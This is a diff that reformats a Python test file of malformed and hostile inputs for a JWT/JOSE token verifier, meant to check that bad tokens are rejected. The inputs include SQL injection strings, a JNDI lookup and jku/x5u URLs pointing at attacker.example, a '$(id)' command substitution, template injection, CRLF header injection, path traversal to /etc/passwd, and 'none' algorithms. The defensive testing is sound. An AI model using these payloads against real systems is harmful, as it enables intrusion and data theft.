@@ -27,14 +27,14 @@ _FOREIGN_ALGORITHMS: tuple[Any, ...] = (
 )  # fmt: skip
 _KIDS: tuple[Any, ...] = (
     None, "", " ", 0, 1, True, [], ["first"], {}, "unknown", "first", "../../../../dev/null", "/dev/null",
-    "first\u0000", "' OR '1'='1", "1; DROP TABLE keys", "first\r\nSet-Cookie: a=b", "\u202efirst", "k" * 129,
-    "k" * 500, "http://attacker.example/key", "${jndi:ldap://attacker.example}", "$(id)", "{{7*7}}", "%00",
-    "file:///etc/passwd",
+    "first\u0000", "' OR '1'='1", "1; DROP TABLE keys", "first\r\nSet-Cookie: a=b", "\u202efirst", "k" * 129, "k" * 500,
+    "http://attacker.example/key", "${jndi:ldap://attacker.example}", "$(id)", "{{7*7}}", "%00", "file:///etc/passwd",
 )  # fmt: skip
 _MEMBERS: dict[str, Any] = {
     "crit": ["exp"], "b64": False, "zip": "DEF", "jwk": {"kty": "oct", "k": "AA"},
-    "jku": "https://attacker.example/jwks", "x5u": "https://attacker.example/x5u", "x5c": ["MIIB"], "x5t": "AA", "x5t#S256": "AA", "cty": "JWT",
-    "enc": "A128GCM", "epk": {}, "p2c": 2**31, "url": "https://attacker.example", "nonce": "1", "Alg": "none", "ALG": "none", "": "",
+    "jku": "https://attacker.example/jwks", "x5u": "https://attacker.example/x5u", "x5c": ["MIIB"], "x5t": "AA",
+    "x5t#S256": "AA", "cty": "JWT", "enc": "A128GCM", "epk": {}, "p2c": 2**31, "url": "https://attacker.example",
+    "nonce": "1", "Alg": "none", "ALG": "none", "": "",
 }  # fmt: skip
 _TYPES = (
     ..., None, "", " ", "JWT", "jwt", "JOSE", "at", "at-jwt", "at+jwt ", " at+jwt", "at+jwt;v=1", "application/",
@@ -100,9 +100,10 @@ def _no_tokens(good: str) -> Iterator[Named]:
     header, payload, signature = good.split(".")
     texts = (
         "", " ", ".", "..", "...", "a.b.c", "null", "undefined", "Bearer", f"Bearer {good}", f'"{good}"',
-        f"{good},{good}", header, f"{header}.{payload}", f"{header}.{payload}.", f".{payload}.{signature}", f"{header}..{signature}",
-        f"{good}.", f".{good}", f"{good}.{signature}", f"{header}.{payload}.{signature}.{signature}.{signature}",
-        f"{payload}.{header}.{signature}", f"{header}.{header}.{signature}", f"{header}.{signature}.{payload}",
+        f"{good},{good}", header, f"{header}.{payload}", f"{header}.{payload}.", f".{payload}.{signature}",
+        f"{header}..{signature}", f"{good}.", f".{good}", f"{good}.{signature}",
+        f"{header}.{payload}.{signature}.{signature}.{signature}", f"{payload}.{header}.{signature}",
+        f"{header}.{header}.{signature}", f"{header}.{signature}.{payload}",
         json.dumps({"protected": header, "payload": payload, "signature": signature}), "A" * 8193, good + "A" * 8192,
         f"{header}.{'A' * 8192}.{signature}", f"{'A' * 8000}.{payload}.{signature}", "." * 8192, "a." * 4096,
         good.upper(), good.lower(), good.swapcase(), good[::-1], good[1:], good[:-1], good.encode().hex(),
@@ -234,7 +235,8 @@ def _claims(key: Key, now: float) -> Iterator[Named]:
         right = claims(now)[name]
         wrong = (
             *_NO_NAMES, right + "/", right.upper(), right[:-1], right + "\0", f" {right}",
-            right.replace("https", "http"), [right.upper()], [[right]], [right, 1], [right, None], {right: 1}, f"{right} {right}", "*", [""],
+            right.replace("https", "http"), [right.upper()], [[right]], [right, 1], [right, None], {right: 1},
+            f"{right} {right}", "*", [""],
         )  # fmt: skip
         for value in (*wrong, *([[right]] if name == "iss" else [])):
             yield f"{name} {value!r}", signed(key, header_of(key), claims(now, **{name: value}))
@@ -270,8 +272,9 @@ def _signatures(key: Key, stranger: Key, now: float) -> Iterator[Named]:
     wrong = {
         "a zero": b"\0", "zeros": bytes(len(right)), "ones": b"\xff" * len(right), "one byte short": right[:-1],
         "one byte long": right + b"\0", "zero first": b"\0" + right, "half": right[: len(right) // 2],
-        "twice": right * 2, "reversed": right[::-1], "its text": b64(right).encode(), "of another message": key.sign(b"other"),
-        "of the payload": key.sign(payload), "of nothing": key.sign(b""), **dict(flipped),
+        "twice": right * 2, "reversed": right[::-1], "its text": b64(right).encode(),
+        "of another message": key.sign(b"other"), "of the payload": key.sign(payload), "of nothing": key.sign(b""),
+        **dict(flipped),
     }  # fmt: skip
     for name, signature in wrong.items():
         yield f"signature {name}", f"{b64(header)}.{b64(payload)}.{b64(signature)}"
